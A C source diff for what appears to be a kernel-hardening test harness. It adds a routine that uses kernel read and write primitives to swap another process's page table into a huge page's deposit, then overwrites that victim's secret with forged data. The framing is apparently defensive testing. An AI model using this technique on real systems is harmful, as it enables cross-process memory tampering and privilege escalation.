@@ -5,6 +5,7 @@
  */
 #include <stddef.h>
 #include <stdio.h>
+#include <string.h>
 #include <sys/mman.h>
 #include <unistd.h>
 
@@ -114,6 +115,71 @@ enum outcome deposit_own_page(void)
 	outcome = use_own_table(&huge, &own, err);
 	if (!collapse(huge.at))
 		return broken("the page cannot be a deposit again");
+	kwrite64(huge.field, huge.deposit);
+	return outcome;
+}
+
+#define ENTRIES		(PAGE_SIZE / sizeof(uint64_t))
+#define MOST_ENTRIES	8192	/* of a table, with pages of 64 KiB */
+
+/* The victim's lowest table, and what stood in it. */
+struct others {
+	uint64_t table, page, phys;
+	unsigned int secret;	/* entry that maps the secret */
+	uint64_t entry[MOST_ENTRIES];
+};
+
+static bool find_others(struct others *others)
+{
+	struct slot pmd, slot;
+
+	if (kwalk(victim_secret(), LEVEL_PMD, victim_pid(), &pmd) ||
+	    kwalk(victim_secret(), LEVEL_PTE, victim_pid(), &slot))
+		return false;
+	others->phys = pmd.value & PTE_PFN_MASK;
+	others->table = slot.slot & -PAGE_SIZE;
+	others->secret = slot.slot % PAGE_SIZE / sizeof(uint64_t);
+	others->page = page_of(slot.slot);
+	return !kread(others->table, others->entry, PAGE_SIZE);
+}
+
+static void put_back(const struct others *others)
+{
+	unsigned int i;
+
+	for (i = 0; i < ENTRIES; i++)
+		if (others->entry[i])
+			kwrite64(others->table + i * sizeof(uint64_t), others->entry[i]);
+}
+
+/*
+ * A deposit is filled when the huge page is split: with what the attacker has at
+ * the same place of his huge page. Here it is the table of another process.
+ */
+enum outcome deposit_table_of_victim(void)
+{
+	char forged[SECRET_SIZE] = "what the attacker wrote";
+	static struct others others;
+	enum outcome outcome;
+	struct huge huge;
+	struct slot pmd;
+	int err;
+
+	if (!find_others(&others) || !make_huge(&huge))
+		return broken("no huge page");
+	memcpy((char *)huge.at + others.secret * PAGE_SIZE + victim_secret() % PAGE_SIZE,
+	       forged, sizeof(forged));
+	err = close_list(others.page);
+	err = err ?: kwrite64(huge.field, others.page);
+	madvise((void *)(huge.at + (others.secret + 1) % ENTRIES * PAGE_SIZE), PAGE_SIZE,
+		MADV_DONTNEED);
+	kwalk((uint64_t)huge.at, LEVEL_PMD, 0, &pmd);
+	if ((pmd.value & PTE_PFN_MASK) != others.phys)
+		return lost("the stores gave %d, and another table was put under the entry", err);
+	outcome = judge_forged(forged, err);
+	if (!collapse(huge.at))
+		return broken("the page cannot be a deposit again");
+	put_back(&others);
 	kwrite64(huge.field, huge.deposit);
 	return outcome;
 }
